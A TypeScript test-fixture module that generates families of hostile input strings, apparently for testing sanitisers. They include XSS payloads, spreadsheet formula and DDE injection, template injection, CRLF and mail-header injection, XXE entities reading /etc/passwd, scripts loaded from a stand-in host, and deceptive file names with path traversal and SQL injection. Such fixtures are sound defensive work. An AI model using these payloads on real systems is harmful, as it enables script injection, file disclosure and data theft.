/**
 * Texts that try to become something else where they are shown: script, markup, a formula, a header, a request to another
 * site. What runs calls `jebol()`, what asks outside asks jahat.example, so that both can be seen.
 */
const RUN = 'window.jebol&&jebol()'
const OUTSIDE = 'https://jahat.example/x'

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpageshow',
  'onpointerenter',
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'select autofocus',
  'textarea autofocus',
  'style',
  'math',
  'button autofocus',
  'frameset',
  'embed src=x',
  'keygen autofocus',
  'xss contenteditable autofocus tabindex=1',
]
/** Ways out of where a text may stand: element, attribute, comment, script, title, template, data of a feed. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '` >',
  '-->',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  ']]>',
  '</template>',
  '</noscript>',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'feed:javascript:',
  'view-source:javascript:',
]
const LINKS = [
  'a href',
  'form action',
  'iframe src',
  'embed src',
  'object data',
  'link rel=stylesheet href',
  'base href',
  'area href',
]
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' =']
const CALLS = [
  `HYPERLINK("${OUTSIDE}","klik")`,
  "cmd|'/C calc'!A0",
  `IMPORTXML("${OUTSIDE}","//a")`,
  '1+1',
  `WEBSERVICE("${OUTSIDE}")`,
  'SUM(1+1)*cmd|0!A0',
]
const TEMPLATES = ['{{', '${', '<%=', '#{', '{%', '{@html ', '[[', '%gacek.lang%{{']
const HEADERS = [
  '\r\nSet-Cookie: jebol=1',
  '\nBcc: semua@jahat.example',
  '\r\n\r\n<script>',
  '%0d%0aLocation: ',
  '\u2028X: ',
]
const SIGNS = [
  '\u202e',
  '\u200b',
  '\u2066',
  '\ufeff',
  '\u00ad',
  '\u061c',
  '\ud800',
  '\udfff',
  '\u0000',
  '\u0008',
  '\uffff',
  '\u{e0041}',
]
const ENTITIES = [
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!ENTITY % p SYSTEM "https://jahat.example/p.dtd">%p;',
  '&lt;script&gt;jebol()&lt;/script&gt;',
  '&#60;script&#62;jebol()&#60;/script&#62;',
  '&amp;#60;img src=x onerror=jebol()&amp;#62;',
  ']]]]><![CDATA[><script>jebol()</script>',
  '<?xml-stylesheet href="https://jahat.example/x.xsl"?>',
  '<xi:include href="file:///etc/passwd"/>',
  '&bogus;&#0;&#xD800;&#x110000;',
]
const ODD = [
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=${OUTSIDE}></script>`,
  `<img src="${OUTSIDE}">`,
  `<style>@import url(${OUTSIDE})</style>`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><animate xlink:href=#a attributeName=href values=javascript:${RUN} /><a id=a><text>x`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<a href="[x](javascript:${RUN})">[x](javascript:${RUN})</a>`,
  `![x](${OUTSIDE})`,
  `[x]: javascript:${RUN}`,
  `<https://jahat.example|x>`,
  `{"@context":"https://schema.org","@type":"ClaimReview"}</script><script>${RUN}//`,
  `__proto__`,
  `constructor`,
  `"><svg/onload=${RUN}>`,
  `'-${RUN}-'`,
  `\\";${RUN};//`,
  `</p><script>${RUN}</script><p>`,
  `<div style="background:url(${OUTSIDE})">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<portal src=${OUTSIDE}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
]

const each = <One, Other>(
  ones: readonly One[],
  others: readonly Other[],
  join: (a: One, b: Other) => string,
): string[] => ones.flatMap((one) => others.map((other) => join(one, other)))

/** The families by name; together more than five hundred texts. */
export const FAMILIES: Record<string, string[]> = {
  attributes: each(ELEMENTS, EVENTS, (element, event) => `<${element} ${event}=${RUN}>`),
  breakouts: each(BREAKOUTS, ['<script>', '<svg onload=', '<img src=x onerror='], (out, begin) =>
    begin === '<script>' ? `${out}<script>${RUN}</script>` : `${out}${begin}${RUN}>`,
  ),
  schemes: each(LINKS, SCHEMES, (link, scheme) => `<${link}="${scheme}${RUN}">x</a>`),
  formulas: each(FORMULAS, CALLS, (sign, call) => `${sign}${call}`),
  templates: each(
    TEMPLATES,
    ['constructor.constructor("jebol()")()', '7*7', 'jebol()'],
    (open, code) => `${open}${code}${open === '{{' ? '}}' : open === '[[' ? ']]' : '}'}`,
  ),
  headers: each(HEADERS, ['', 'Subjek', 'x@contoh.example'], (line, before) => `${before}${line}`),
  signs: each(SIGNS, ['laporan', '<script>', 'gpj.exe'], (sign, word) => `${sign}${word}${sign}txt`),
  entities: ENTITIES,
  odd: ODD,
}

/** Every one of them, each once. */
export const HOSTILE_TEXTS: string[] = [...new Set(Object.values(FAMILIES).flat())]

/** All of them in pieces of at most `longest` characters, each beginning with an ordinary word. */
export function inPieces(longest: number): string[] {
  const pieces: string[] = []
  let piece = ''
  for (const text of HOSTILE_TEXTS) {
    const next = piece === '' ? `Jalan rusak ${text}` : `${piece} ${text}`
    if (next.length > longest && piece !== '') {
      pieces.push(piece)
      piece = `Jalan rusak ${text}`
    } else piece = next
  }
  return [...pieces, piece]
}

/** File names of every kind of deceit. */
export const HOSTILE_NAMES: string[] = [
  'laporan\u202egpj.exe',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '"><img src=x onerror=jebol()>.jpg',
  'a\r\nContent-Type: text/html\r\n\r\n<script>jebol()</script>.jpg',
  'a.jpg\u0000.html',
  '\u200b\u200b.jpg',
  'CON.jpg',
  '.htaccess',
  '=cmd|calc.jpg',
  "'; drop table media;--.jpg",
  'a'.repeat(400) + '.jpg',
  'foto.svg.jpg',
  '-rf.jpg',
  '%2e%2e%2f%00.jpg',
  '\ud800.jpg',
]
